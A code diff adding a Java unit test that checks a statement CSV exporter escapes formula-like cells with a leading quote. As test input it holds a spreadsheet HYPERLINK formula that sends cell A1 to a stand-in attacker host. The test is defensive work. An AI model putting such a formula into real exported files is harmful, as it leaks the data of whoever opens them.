@@ -56,6 +56,30 @@ class StatementCsvTest {
     }
 
     @Test
+    void cellsASpreadsheetWouldTakeForFormulasAreNeutralisedWithAQuote() throws IOException {
+        String formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Cliquez\")";
+        Statement statement = new Statement("cmp-alpes", "Alpes Numérique", YearMonth.of(2026, 12), List.of(
+                line("ord-1", "CI-2026-000001", formula, 6_000, 3_000, Instant.parse("2026-12-05T15:00:00Z")),
+                line("ord-2", "CI-2026-000002", "+33 4 76 00 00 00", 1_000, 0, Instant.parse("2026-12-06T15:00:00Z")),
+                line("ord-3", "CI-2026-000003", "-1+1", 1_000, 0, Instant.parse("2026-12-07T15:00:00Z")),
+                line("ord-4", "CI-2026-000004", "@SUM(A1:A9)", 1_000, 0, Instant.parse("2026-12-08T15:00:00Z")),
+                line("ord-5", "CI-2026-000005", "\tTab", 1_000, 0, Instant.parse("2026-12-09T15:00:00Z")),
+                line("ord-6", "CI-2026-000006", "\rReturn", 1_000, 0, Instant.parse("2026-12-10T15:00:00Z"))));
+
+        String csv = StatementCsv.write(statement);
+
+        try (CSVParser parser = CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get()
+                .parse(new StringReader(csv))) {
+            List<String> names = parser.getRecords().stream().map(r -> r.get("employee_name")).toList();
+            assertThat(names).containsExactly("'" + formula, "'+33 4 76 00 00 00", "'-1+1", "'@SUM(A1:A9)", "'\tTab",
+                    "'\rReturn", "");
+            assertThat(names).noneMatch(name -> !name.isEmpty() && "=+-@\t\r".indexOf(name.charAt(0)) >= 0);
+        }
+        // amounts the statement writes itself stay numbers (a negative total is not a formula to neutralise)
+        assertThat(csv).contains(",60.00,30.00,30.00\r\n");
+    }
+
+    @Test
     void anEmptyMonthIsAHeaderAndAZeroTotal() {
         String csv = StatementCsv.write(new Statement("cmp-alpes", "Alpes", YearMonth.of(2026, 12), List.of()));
         assertThat(csv).startsWith("order_number,completed_on,").endsWith("TOTAL,,,,,,,,,0.00,0.00,0.00\r\n");
